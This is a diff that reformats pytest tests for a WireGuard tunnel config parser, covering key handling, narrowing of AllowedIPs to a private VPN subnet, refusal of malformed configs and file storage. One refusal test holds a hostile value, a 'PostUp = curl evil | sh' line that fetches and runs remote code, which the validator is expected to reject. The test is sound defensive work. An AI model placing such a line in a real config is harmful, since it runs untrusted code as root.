@@ -20,9 +20,11 @@ NET = ipaddress.ip_network("10.0.0.0/24")
 
 def deployed_text(private: str = PAIR.private_key, allowed: str = "10.0.0.0/24") -> str:
     """The deployed network's answer `config`, shaped as REACHABILITY.md describes it."""
-    return (f"[Interface]\nPrivateKey = {private}\nAddress = 10.0.0.7/24\nDNS = 8.8.8.8, 1.1.1.1\nMTU = 1420\n\n"
-            f"[Peer]\nPublicKey = {SERVER.public_key}\nEndpoint = pool.example:51820\n"
-            f"AllowedIPs = {allowed}\nPersistentKeepalive = 25\n")
+    return (
+        f"[Interface]\nPrivateKey = {private}\nAddress = 10.0.0.7/24\nDNS = 8.8.8.8, 1.1.1.1\nMTU = 1420\n\n"
+        f"[Peer]\nPublicKey = {SERVER.public_key}\nEndpoint = pool.example:51820\n"
+        f"AllowedIPs = {allowed}\nPersistentKeepalive = 25\n"
+    )
 
 
 def test_key_pair_is_x25519_and_never_shows_the_private_key() -> None:
@@ -52,14 +54,17 @@ def test_parse_reads_the_deployed_answer_and_drops_dns() -> None:
     assert f"PrivateKey = {PAIR.private_key}" in setconf
 
 
-@pytest.mark.parametrize(("allowed", "expected"), [
-    ("0.0.0.0/0", ["10.0.0.0/24"]),
-    ("0.0.0.0/0, ::/0", ["10.0.0.0/24"]),
-    ("10.0.0.0/8", ["10.0.0.0/24"]),
-    ("10.0.0.0/24", ["10.0.0.0/24"]),
-    ("10.0.0.1/32, 192.168.1.0/24", ["10.0.0.1/32"]),
-    ("0.0.0.0/1, 128.0.0.0/1", ["10.0.0.0/24"]),  # the wg-quick trick to dodge a default route
-])
+@pytest.mark.parametrize(
+    ("allowed", "expected"),
+    [
+        ("0.0.0.0/0", ["10.0.0.0/24"]),
+        ("0.0.0.0/0, ::/0", ["10.0.0.0/24"]),
+        ("10.0.0.0/8", ["10.0.0.0/24"]),
+        ("10.0.0.0/24", ["10.0.0.0/24"]),
+        ("10.0.0.1/32, 192.168.1.0/24", ["10.0.0.1/32"]),
+        ("0.0.0.0/1, 128.0.0.0/1", ["10.0.0.0/24"]),  # the wg-quick trick to dodge a default route
+    ],
+)
 def test_allowed_ips_are_narrowed_to_the_vpn_network(allowed: str, expected: list[str], caplog) -> None:
     narrowed = narrow_allowed_ips(parse_config(deployed_text(allowed=allowed)), NET)
     assert [str(n) for n in narrowed.peers[0].allowed_ips] == expected
@@ -73,25 +78,28 @@ def test_a_vpn_network_that_is_not_private_or_too_wide_is_refused(network: str) 
         narrow_allowed_ips(parse_config(deployed_text()), ipaddress.ip_network(network))
 
 
-@pytest.mark.parametrize(("text", "message"), [
-    ("", "empty"),
-    ("[Interface]\nAddress = 10.0.0.2/24\n[Peer]\nPublicKey = " + SERVER.public_key, "no PrivateKey"),
-    (f"[Interface]\nPrivateKey = {PAIR.private_key}\n[Peer]\nPublicKey = {SERVER.public_key}", "no Address"),
-    (f"[Interface]\nPrivateKey = {PAIR.private_key}\nAddress = 10.0.0.2/24\n", "no \\[Peer\\]"),
-    ("PrivateKey = x\n", "before any"),
-    ("[Wat]\n", "unknown section"),
-    ("[Interface]\ngarbage\n", "expected 'Key = value'"),
-    (deployed_text().replace("MTU = 1420", "PostUp = curl evil | sh"), "command to run as root"),
-    (deployed_text().replace("MTU = 1420", "Colour = red"), "unknown key"),
-    (deployed_text().replace("MTU = 1420", "MTU = 99"), "MTU must be"),
-    (deployed_text().replace("Address = 10.0.0.7/24", "Address = 10.0.0.300/24"), "Address is malformed"),
-    (deployed_text().replace("pool.example:51820", "pool.example"), "Endpoint must be host:port"),
-    (deployed_text().replace("pool.example:51820", "pool.example:70000"), "Endpoint must be host:port"),
-    (deployed_text(allowed="10.0.0.0/33"), "AllowedIPs has a malformed"),
-    (deployed_text(private="secret"), "PrivateKey is not a WireGuard key"),
-    (deployed_text() + "\n[Interface]\n", "second \\[Interface\\]"),
-    ("[Interface]\n" + "# x\n" * 20000, "larger than"),
-])
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("", "empty"),
+        ("[Interface]\nAddress = 10.0.0.2/24\n[Peer]\nPublicKey = " + SERVER.public_key, "no PrivateKey"),
+        (f"[Interface]\nPrivateKey = {PAIR.private_key}\n[Peer]\nPublicKey = {SERVER.public_key}", "no Address"),
+        (f"[Interface]\nPrivateKey = {PAIR.private_key}\nAddress = 10.0.0.2/24\n", "no \\[Peer\\]"),
+        ("PrivateKey = x\n", "before any"),
+        ("[Wat]\n", "unknown section"),
+        ("[Interface]\ngarbage\n", "expected 'Key = value'"),
+        (deployed_text().replace("MTU = 1420", "PostUp = curl evil | sh"), "command to run as root"),
+        (deployed_text().replace("MTU = 1420", "Colour = red"), "unknown key"),
+        (deployed_text().replace("MTU = 1420", "MTU = 99"), "MTU must be"),
+        (deployed_text().replace("Address = 10.0.0.7/24", "Address = 10.0.0.300/24"), "Address is malformed"),
+        (deployed_text().replace("pool.example:51820", "pool.example"), "Endpoint must be host:port"),
+        (deployed_text().replace("pool.example:51820", "pool.example:70000"), "Endpoint must be host:port"),
+        (deployed_text(allowed="10.0.0.0/33"), "AllowedIPs has a malformed"),
+        (deployed_text(private="secret"), "PrivateKey is not a WireGuard key"),
+        (deployed_text() + "\n[Interface]\n", "second \\[Interface\\]"),
+        ("[Interface]\n" + "# x\n" * 20000, "larger than"),
+    ],
+)
 def test_malformed_configs_are_refused_with_what_was_wrong(text: str, message: str) -> None:
     with pytest.raises(TunnelConfigError, match=message):
         parse_config(text)
@@ -109,8 +117,14 @@ def test_store_keeps_files_0600_and_reads_them_back(tmp_path) -> None:
     pair = store.key_pair()
     assert store.key_pair() == pair  # made once, reused
     config = narrow_allowed_ips(parse_config(deployed_text(allowed="0.0.0.0/0")), NET)
-    record = JoinRecord(mode="deployed", network="10.0.0.0/24", pool_address=None, endpoint="pool.example:51820",
-                        joined_at="2026-01-01T00:00:00+00:00", pool_generated_key=True)
+    record = JoinRecord(
+        mode="deployed",
+        network="10.0.0.0/24",
+        pool_address=None,
+        endpoint="pool.example:51820",
+        joined_at="2026-01-01T00:00:00+00:00",
+        pool_generated_key=True,
+    )
     store.save(config, record)
     assert store.exists()
     loaded, loaded_record = store.load()
